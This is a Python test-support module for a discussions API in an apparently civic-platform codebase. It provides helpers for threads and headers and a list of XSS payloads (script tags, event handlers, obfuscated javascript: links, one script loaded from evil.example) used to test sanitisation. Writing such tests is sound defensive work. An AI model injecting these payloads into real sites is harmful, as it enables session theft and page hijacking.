"""What the discussions tests share: a challenge of city A at a visibility, a thread on it,
API headers, and the XSS payloads."""

from __future__ import annotations

from typing import Any

from civiclab.exchange.models.discussions import Thread
from civiclab.exchange.services import discussions as services
from tests.permission_matrix import api_headers
from tests.portfolio import factories
from tests.world import World

API = "/api/v1/exchange/discussions"

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<svg onload="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](%6Aavascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](x" onerror="alert(1))',
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>script>alert(1)<</script>/script>",
    "<object data=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<a href='javas&#x09;cript:alert(1)'>x</a>",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
]


def challenge_thread(
    world: World, visibility: str = "city", *, by: str = "member", title: str = "Blight talk"
) -> tuple[Any, Thread]:
    challenge = factories.challenge(world.city, visibility)
    thread = services.start_thread(world.user(by), "challenge", challenge.pk, title, "First post")
    return challenge, thread


def headers(user: Any) -> dict[str, str]:
    return api_headers(user)
